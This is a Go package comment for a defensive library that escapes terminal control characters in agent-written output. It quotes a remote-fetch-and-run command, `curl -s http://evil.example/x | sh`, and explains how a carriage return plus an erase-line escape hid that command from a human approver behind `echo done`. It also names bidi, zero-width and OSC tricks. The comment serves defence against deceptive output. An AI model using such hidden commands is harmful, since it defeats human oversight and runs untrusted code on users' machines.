// Package termsafe makes text an agent controls safe to write to a
// terminal: what a terminal would act on, or would not show, is written
// as a visible escape and counted, so that what a person reads is what
// the bytes say.
//
// The attack (docs/security.md, "The third review"): a write whose
// content held `curl -s http://evil.example/x | sh`, a carriage return,
// ESC[2K (erase the line) and `echo done` showed an approver the diff line
// `+echo done`; approved, the file held the curl line. A bidi override
// (U+202E) reorders what follows it, a zero-width space or a Hangul
// filler is not drawn at all, and an OSC sequence can retitle the window
// or write the clipboard. None of it may reach the terminal as is.
package termsafe
